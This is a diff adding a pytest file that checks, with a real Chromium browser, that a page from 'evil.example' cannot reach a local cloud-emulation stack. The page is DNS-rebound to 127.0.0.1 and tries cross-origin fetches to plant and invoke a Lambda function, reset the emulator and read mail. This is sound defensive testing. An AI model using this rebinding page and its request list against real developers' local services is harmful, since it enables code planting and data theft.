@@ -1,0 +1,96 @@
+"""What a page from elsewhere can do while the stack runs, tried by a real browser: nothing."""
+
+import base64
+import json
+from pathlib import Path
+from typing import Any
+
+import pytest
+
+from local.stack import client
+from tests.local.browser import CHROMIUM, SECONDS, Site, dumped, showing
+from tests.local.conftest import account, ask
+from tests.local.ministack import zipped
+from tests.stack import RunningStack
+
+pytestmark = [
+    pytest.mark.xdist_group("local"),
+    pytest.mark.skipif(CHROMIUM is None, reason="there is no Chromium on this machine"),
+]
+
+# A page's own name, which whoever has the name can have lead to 127.0.0.1.
+REBOUND = "--host-resolver-rules=MAP *.example 127.0.0.1"
+PAGE = """<!doctype html><meta charset="utf-8"><script>
+const attempts = ATTEMPTS;
+async function tried([url, how]) {
+  try {
+    const answer = await fetch(url, how);
+    return answer.type === "opaque" ? "sent" : `read ${answer.status} ${(await answer.text()).slice(0, 200)}`;
+  } catch (error) {
+    return "blocked";
+  }
+}
+(async () => {
+  const found = [];
+  for (const attempt of attempts) found.push(await tried(attempt));
+  await fetch("/found", { method: "POST", body: JSON.stringify(found) });
+})();
+</script>"""
+PLANTED = "def handler(event, context): return 'planted'"
+
+
+def attack(site: Site, attempts: list[tuple[str, dict[str, Any]]], profile: Path) -> list[str]:
+    """What became of each attempt of a page of http://evil.example."""
+    site.page = PAGE.replace("ATTEMPTS", json.dumps(attempts))
+    with site.served(), showing(f"http://evil.example:{site.port}/", profile, REBOUND):
+        found: list[str] = site.found.get(timeout=SECONDS)
+        return found
+
+
+def test_a_page_from_elsewhere_plants_no_function_and_reads_nothing(small: RunningStack, tmp_path: Path) -> None:
+    run = account(small)
+    aws, existing = client("lambda", run), client("lambda", run).list_functions()["Functions"]
+    code = {"ZipFile": base64.b64encode(zipped("code.py", PLANTED)).decode()}
+    function = {
+        "FunctionName": "planted",
+        "Runtime": "python3.13",
+        "Handler": "code.handler",
+        "Role": existing[0]["Role"],
+    }
+    create, target = json.dumps({**function, "Code": code}), f"{run.endpoint}/2015-03-31/functions"
+    simple: dict[str, Any] = {"method": "POST", "mode": "no-cors", "body": create}
+    invoke = {"method": "POST", "mode": "no-cors", "body": "{}"}
+    signed = {"Authorization": "AWS4-HMAC-SHA256 Credential=test/20261128/us-east-1/lambda/aws4_request"}
+    by_name = "X-Amz-Credential=test/20261128/us-east-1/lambda/aws4_request"
+    attempts = [
+        (target, simple),
+        (f"{target}?{by_name}", simple),
+        (target, {"method": "POST", "body": create, "headers": signed}),
+        (f"{target}/planted/invocations", invoke),
+        (f"{target}/{existing[0]['FunctionName']}/invocations", invoke),
+        (f"{run.endpoint}/_ministack/reset", {"method": "POST", "mode": "no-cors"}),
+        (f"{run.endpoint}/_ministack/ses/messages", {}),
+        (f"{run.endpoint}/_lamina/events", {}),
+        (f"{small.url}/_local/stack", {}),
+        (f"{small.url}/_local/mail", {}),
+        (f"http://evil.example:{small.port}/_local/stack", {}),
+        (f"{small.url}/echo/x", {"method": "POST", "mode": "no-cors", "body": "from a page"}),
+    ]
+    found = attack(Site(""), attempts, tmp_path)
+    assert set(found) <= {"blocked", "sent"}
+    assert [one["FunctionName"] for one in aws.list_functions()["Functions"]] == [
+        one["FunctionName"] for one in existing
+    ]
+    assert "from a page" not in small.output
+    assert ask(small, "/health").status == 200
+
+
+@pytest.mark.parametrize("path", ["/_local/stack", "/_local/mail", "/_local"])
+def test_a_name_that_is_made_to_lead_here_shows_nothing(small: RunningStack, tmp_path: Path, path: str) -> None:
+    shown = dumped(f"http://evil.example:{small.port}{path}", tmp_path, REBOUND)
+    assert "FORBIDDEN" in shown
+    assert "Lamina, locally" not in shown
+
+
+def test_its_own_pages_show_in_the_browser(small: RunningStack, tmp_path: Path) -> None:
+    assert "Lamina, locally" in dumped(f"{small.url}/_local", tmp_path)
